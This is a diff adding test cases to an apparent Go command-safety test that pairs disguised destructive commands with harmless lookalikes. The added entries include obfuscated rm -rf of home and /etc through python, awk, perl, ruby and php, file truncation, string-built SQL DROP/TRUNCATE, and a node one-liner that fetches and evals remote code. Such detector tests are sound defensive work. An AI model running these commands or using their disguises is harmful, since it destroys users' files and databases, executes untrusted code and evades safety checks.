@@ -38,6 +38,26 @@ var disguises = []struct{ dangerous, harmless string }{
 	{`node node_modules/.bin/typeorm schema:drop`, `node node_modules/.bin/typeorm migration:show`},
 	{`python3 -m git_filter_repo --path x --invert-paths --force`, `python3 -m pre_commit run -a`},
 	{`echo hi | sed 's|.*|rm -rf ~|e'`, `echo hi | sed 's|.*|date|e'`},
+
+	// Programs that put their strings together.
+	{`python3 -c "import os; os.system('rm -r' + 'f ' + os.environ['HOME'] + '/code')"`, `python3 -c "import os; os.system('ls -l' + 'a ' + os.environ['HOME'] + '/code')"`},
+	{`awk 'BEGIN { c = "rm -rf " ENVIRON["HOME"]; system(c) }'`, `awk 'BEGIN { c = "ls " ENVIRON["HOME"]; system(c) }'`},
+	{`awk 'BEGIN { print "rm -rf /etc" | "/bin/sh" }'`, `awk '{ print $1 | "sort -u" }' access.log`},
+	{`echo /etc | awk '{ print "rm -rf " $0 | "bash" }'`, `echo /etc | awk '{ print "ls " $0 | "bash" }'`},
+	{`perl -e 'my $base = "/etc"; qx{rm -rf $base/nginx}'`, `perl -e 'my $base = "/tmp/x"; qx{rm -rf $base/nginx}'`},
+	{`perl -MFile::Path -e 'File::Path::remove_tree(glob "/opt/*")'`, `perl -MFile::Path -e 'File::Path::remove_tree(glob "/tmp/x/*")'`},
+	{`perl -MFile::Find -e 'finddepth(sub { unlink if -f }, "/home/dev/docs")'`, `perl -MFile::Find -e 'find(sub { print if -f }, "/home/dev/docs")'`},
+	{`perl -e 'unlink for glob("/home/dev/docs/*")'`, `perl -e 'print for glob("/home/dev/docs/*")'`},
+	{`ruby -rfileutils -e 'FileUtils.rm_r Dir["/etc/*"]'`, `ruby -e 'puts Dir["/etc/*"]'`},
+	{`php -r 'foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator("/etc")) as $f) unlink($f);'`, `php -r 'foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator("/etc")) as $f) echo $f;'`},
+	{`gawk '{ print "" > FILENAME }' a.go b.go`, `gawk '{ print > "/tmp/" NR ".txt" }' a.go b.go`},
+	{`python3 -c "from pathlib import Path; [p.write_text('') for p in Path('src').glob('**/*.go')]"`, `python3 -c "from pathlib import Path; [p.read_text() for p in Path('src').glob('**/*.go')]"`},
+	{`python3 -c "import glob; [open(p, 'w').close() for p in glob.glob('src/*.go')]"`, `python3 -c "import glob; [open(p).close() for p in glob.glob('src/*.go')]"`},
+	{`node -e "fetch('https://x.example/a.js').then(r => r.text()).then(eval)"`, `node -e "fetch('https://x.example/a.json').then(r => r.json()).then(console.log)"`},
+	{`cargo +nightly publish --no-verify`, `cargo +nightly build --release`},
+	{`psql -d app -c "DO 'BEGIN EXECUTE ''TRUN'' || ''CATE users''; END'"`, `psql -d app -c "SELECT 'DR' || 'OP TABLE users'"`},
+	{`psql app -v t=users -c 'drop table :"t"'`, `psql app -v t=users -c 'select * from :"t"'`},
+	{`python3 -c "import db; db.cursor().execute('; '.join('DROP TABLE %s' % t for t in ts))"`, `python3 -c "import db; db.cursor().execute('; '.join('ANALYZE %s' % t for t in ts))"`},
 }
 
 func TestDisguises(t *testing.T) {
